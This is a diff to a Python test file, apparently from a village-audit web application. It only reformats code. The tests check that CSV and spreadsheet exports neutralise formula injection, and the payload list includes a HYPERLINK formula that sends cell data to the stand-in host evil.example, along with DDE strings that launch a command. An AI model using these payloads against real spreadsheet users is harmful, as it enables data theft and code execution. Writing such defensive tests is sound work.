@@ -19,8 +19,8 @@ from helpers import base_tables, write_bundle
 from web_helpers import login, upload_zip, zip_folder
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
-PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0"]
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
 
 def bad_bundle(people, folder: Path) -> Path:
@@ -78,7 +78,8 @@ def test_the_import_errors_csv_of_the_web_runs_nothing(app, client, web, people,
 def test_the_attendance_sheet_runs_nothing(app, web, client):
     from audit.auth.services import create_user
 
-    unit = "=1+1 村民委员会"  # a unit without a township reads as its bare name: the sheet's text starts with =
+    # a unit without a township reads as its bare name: the sheet's text starts with =
+    unit = "=1+1 村民委员会"
     db.session.execute(update(Position).where(Position.employer == "白帝村村民委员会")
                        .values(employer=unit, township=None))
     db.session.execute(update(Person).where(Person.id == web.person_id["王大山"]).values(name="@SUM(1+1)"))
